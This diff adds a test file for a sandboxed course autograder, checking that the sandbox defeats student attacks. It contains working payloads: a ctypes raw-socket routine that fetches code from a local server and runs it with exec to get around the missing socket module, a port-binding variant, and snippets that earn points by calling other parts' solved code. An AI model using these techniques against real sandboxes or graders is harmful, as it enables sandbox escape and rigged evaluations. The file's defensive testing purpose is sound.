@@ -1,0 +1,259 @@
+"""Attacks of round 4 on the sandboxed grader: a student who read its source.
+
+tests/test_grader_attacks.py and test_grader_attacks_2.py hold the earlier rounds (patching the
+grader, crashes, limits, the reference read from disk, files built to crash the grader). These
+are the holes the last review left open and what a student who read the grader's source tried
+next. Each test failed before its fix; the submissions start from test_grader_attacks_2.py's
+copies (im2col blank, relu solved) and are graded with its LIMITS.
+"""
+
+import socket
+import threading
+
+import numpy as np
+import pytest
+import test_grader_attacks_2 as earlier
+from test_grader_attacks_2 import attacker, grade, points
+
+from minivgg.assignment import make_assignment, sandbox
+from minivgg.assignment.make import REFERENCE_ROOT
+from minivgg.assignment.parts import completed
+
+copies, grader = earlier.copies, earlier.grader         # its fixtures: the copies, root or user
+
+# ------------------------------------------------------------------------------------------------
+# the network
+# ------------------------------------------------------------------------------------------------
+
+NETWORK_ABI = 4                     # Landlock's first ABI with TCP rules (Linux 6.7)
+
+
+def needs_network_rules():
+    abi = sandbox.landlock_abi()
+    if abi < NETWORK_ABI:
+        pytest.skip(f"this kernel's Landlock ABI is {abi}: TCP can be refused from ABI "
+                    f"{NETWORK_ABI} (Linux 6.7) on; here the report says the network is open")
+
+
+# At import, the student's naive.py fetches a solution from a server and runs it. The server is
+# on 127.0.0.1 (a test must not go further), but one on the internet is reached the same way.
+# Raw system calls through ctypes (which the runner has loaded): the jail holds no socket module.
+FETCH = """
+def _fetch(port):
+    import ctypes, os, struct
+    libc = ctypes.CDLL(None, use_errno=True)
+    fd = libc.socket(2, 1, 0)                                  # AF_INET, SOCK_STREAM
+    address = struct.pack("=H", 2) + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
+    if fd < 0 or libc.connect(fd, address, len(address)) != 0:
+        error = ctypes.get_errno()
+        raise OSError(error, "connect: " + os.strerror(error))
+    chunks = []
+    while True:
+        chunk = os.read(fd, 1 << 16)
+        if not chunk:
+            return b"".join(chunks).decode()
+        chunks.append(chunk)
+
+
+_downloaded = {"__name__": __name__, "__package__": __package__}
+exec(_fetch(PORT), _downloaded)
+im2col, col2im = _downloaded["im2col"], _downloaded["col2im"]
+"""
+# the same socket bound to a port: a server a later child (or anything on the machine) reaches
+BIND = """
+def im2col(x, kernel, stride, padding, out=None):
+    import ctypes, os, struct
+    libc = ctypes.CDLL(None, use_errno=True)
+    fd = libc.socket(2, 1, 0)
+    address = struct.pack("=H", 2) + bytes(2) + bytes([127, 0, 0, 1]) + bytes(8)   # any port
+    if fd < 0 or libc.bind(fd, address, len(address)) != 0:
+        error = ctypes.get_errno()
+        raise OSError(error, "bind: " + os.strerror(error))
+    raise RuntimeError("bound a TCP port")
+"""
+
+
+def serving(text):
+    """A one-file server on 127.0.0.1 that sends ``text`` to whoever connects; (port, stop)."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    done = threading.Event()
+
+    def serve():
+        while not done.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                continue
+            with connection:
+                connection.sendall(text.encode())
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+
+    def stop():
+        done.set()
+        thread.join()
+        server.close()
+    return server.getsockname()[1], stop
+
+
+def test_a_child_cannot_download_a_solution(copies, tmp_path, grader):
+    needs_network_rules()
+    port, stop = serving((REFERENCE_ROOT / "minivgg/kernels/naive.py").read_text())
+    try:
+        report, blank = grade([attacker(copies, tmp_path, FETCH.replace("PORT", str(port))),
+                               copies / "blank"])
+    finally:
+        stop()
+    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
+    assert "PermissionError" in report.results[0].message and "connect" in \
+        report.results[0].message, str(report)
+    assert not any("network" in note for note in report.notes), report.notes
+    assert blank.score == 0
+
+
+def test_a_child_cannot_open_a_server(copies, tmp_path, grader):
+    needs_network_rules()
+    (report,) = grade([attacker(copies, tmp_path, BIND)])
+    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
+    assert "PermissionError" in report.results[0].message and "bind" in \
+        report.results[0].message, str(report)
+
+
+def test_a_report_says_when_the_network_was_open(copies, monkeypatch):
+    monkeypatch.setattr(sandbox, "landlock_abi", lambda: NETWORK_ABI - 1)
+    (report,) = grade([copies / "blank"], parts=["relu"])
+    assert any("network" in note and "Landlock ABI 3" in note for note in report.notes), \
+        report.notes
+
+
+def test_the_fetch_attack_works_where_nothing_refuses_it(tmp_path):
+    """The attack itself is sound: run in this process, it gets the solution."""
+    port, stop = serving("def im2col():\n    return 'downloaded'\ncol2im = None\n")
+    try:
+        namespace = {"__name__": "x", "__package__": None}
+        exec(FETCH.replace("PORT", str(port)), namespace)
+    finally:
+        stop()
+    assert namespace["im2col"]() == "downloaded"
+
+
+# ------------------------------------------------------------------------------------------------
+# a part done by calling another part's solved code
+# ------------------------------------------------------------------------------------------------
+
+# A part left out of the assignment stays solved in the copy: where it computes an assigned part's
+# answer, calling it earned that part (10/10, 15/15 and 6/15 of the three below, before make
+# refused such an assignment). part -> (file, code appended to it).
+CALLING = {
+    # im2col and one matrix product
+    "conv_direct": ("kernels/naive.py", """def conv2d_direct(x, weight, bias, stride, padding):
+    F, C, kh, kw = weight.shape
+    cols = im2col(x, (kh, kw), stride, padding)
+    N, H, W = len(x), x.shape[2], x.shape[3]
+    OH, OW = (H + 2 * padding[0] - kh) // stride[0] + 1, (W + 2 * padding[1] - kw) // stride[1] + 1
+    return (weight.reshape(F, -1) @ cols + bias[:, None]).reshape(N, F, OH, OW)
+"""),
+    # the direct convolution with one-hot weights copies each window; col2im is the same
+    # convolution, transposed, of the columns spread out by the stride
+    "im2col": ("kernels/naive.py", """def _onehot(C, kh, kw, dtype):
+    w = np.zeros((C * kh * kw, C, kh, kw), dtype)
+    for c in range(C):
+        for i in range(kh):
+            for j in range(kw):
+                w[(c * kh + i) * kw + j, c, i, j] = 1
+    return w
+
+
+def im2col(x, kernel, stride, padding, out=None):
+    (kh, kw), C = kernel, x.shape[1]
+    y = conv2d_direct(x, _onehot(C, kh, kw, x.dtype), np.zeros(C * kh * kw, x.dtype), stride, padding)
+    cols = y.reshape(len(x), C * kh * kw, -1).astype(x.dtype)
+    if out is None:
+        return cols
+    out[...] = cols
+    return out
+
+
+def col2im(cols, x_shape, kernel, stride, padding, out=None):
+    (N, C, H, W), (kh, kw), (sh, sw), (ph, pw) = x_shape, kernel, stride, padding
+    OH, OW = (H + 2 * ph - kh) // sh + 1, (W + 2 * pw - kw) // sw + 1
+    d = np.zeros((N, C * kh * kw, (OH - 1) * sh + 1, (OW - 1) * sw + 1), cols.dtype)
+    d[:, :, ::sh, ::sw] = cols.reshape(N, -1, OH, OW)
+    w = _onehot(C, kh, kw, cols.dtype)[:, :, ::-1, ::-1].transpose(1, 0, 2, 3).copy()
+    z = conv2d_direct(d, w, np.zeros(C, cols.dtype), (1, 1), (kh - 1, kw - 1))
+    full = np.zeros((N, C, H + 2 * ph, W + 2 * pw), cols.dtype)
+    a, b = min(z.shape[2], full.shape[2]), min(z.shape[3], full.shape[3])
+    full[:, :, :a, :b] = z[:, :, :a, :b]
+    dx = full[:, :, ph:ph + H, pw:pw + W].astype(cols.dtype)
+    if out is None:
+        return dx
+    out[...] = dx
+    return out
+"""),
+    # the layer's forward is the direct convolution
+    "conv_layer": ("conv/im2col.py", """from ..kernels.naive import conv2d_direct as _direct
+
+
+def _forward(self, x, weight, bias):
+    self._x_shape = x.shape
+    return _direct(x, weight, bias, self.stride, self.padding)
+
+
+Im2col.forward = _forward
+"""),
+}
+
+
+@pytest.mark.parametrize("part", sorted(CALLING))
+def test_a_part_cannot_be_done_by_calling_another_parts_solved_code(tmp_path, part):
+    with pytest.raises(ValueError, match=f"--only {part}: {part} needs .* assign --only "
+                                         f"{','.join(completed([part]))}"):
+        make_assignment(tmp_path / "alone", only=[part])
+    assert not (tmp_path / "alone").exists()
+    sub = tmp_path / "attacker"
+    make_assignment(sub, only=completed([part]))          # what make asks for: both blank
+    file, code = CALLING[part]
+    with open(sub / "minivgg" / file, "a") as f:
+        f.write("\n\n" + code)
+    (report,) = grade([sub], parts=[part])
+    assert report.score == 0, report.text(checks=True)
+    assert report.results[0].message.startswith("not implemented yet"), str(report)
+
+
+@pytest.mark.parametrize("part", ["conv_direct", "im2col"])
+def test_the_calling_attacks_work_on_the_solved_code(part):
+    """The attacks are sound: on the reference's own functions they give the right answers."""
+    from minivgg.kernels import naive
+    space = vars(naive).copy()                  # the solved module, the attack's code on top
+    exec(CALLING[part][1], space)
+    rng = np.random.default_rng(0)
+    x = rng.standard_normal((2, 3, 7, 6))
+    weight, bias = rng.standard_normal((4, 3, 3, 2)), rng.standard_normal(4)
+    geometry = ((3, 2), (2, 1), (1, 0))
+    dcols = rng.standard_normal(naive.im2col(x, *geometry).shape)
+    for name, args in (("conv2d_direct", (x, weight, bias, *geometry[1:])),
+                       ("im2col", (x, *geometry)), ("col2im", (dcols, x.shape, *geometry))):
+        assert np.allclose(space[name](*args), getattr(naive, name)(*args)), name
+
+
+# ------------------------------------------------------------------------------------------------
+# limits no part can meet: the instructor's error, not every student's zero
+# ------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("option, value, minimum", [
+    ("--memory", str((sandbox.MIN_MEMORY >> 20) - 1), f"{sandbox.MIN_MEMORY >> 20} MiB"),
+    ("--memory", "1", f"{sandbox.MIN_MEMORY >> 20} MiB"),
+    ("--timeout", "0.05", f"{sandbox.MIN_SECONDS:g} s")])
+def test_an_impossible_limit_is_refused_naming_the_option_and_its_minimum(copies, capsys, option,
+                                                                         value, minimum):
+    assert earlier.grading.grade_main([str(copies / "relu"), option, value]) == 2
+    error = capsys.readouterr().err
+    assert f"{option} {value}:" in error and f"at least {minimum}" in error, error
+
+
+def test_the_reference_passes_every_part_at_the_minimum_limits():
+    """The minimum is enough for the grader's own child: the reference, graded as a student."""
+    limits = sandbox.Limits(seconds=60, cpu=30, memory=sandbox.MIN_MEMORY)
+    report = earlier.grading.grade([REFERENCE_ROOT], limits=limits)[0]
+    assert report.score == report.max_score, report.text()
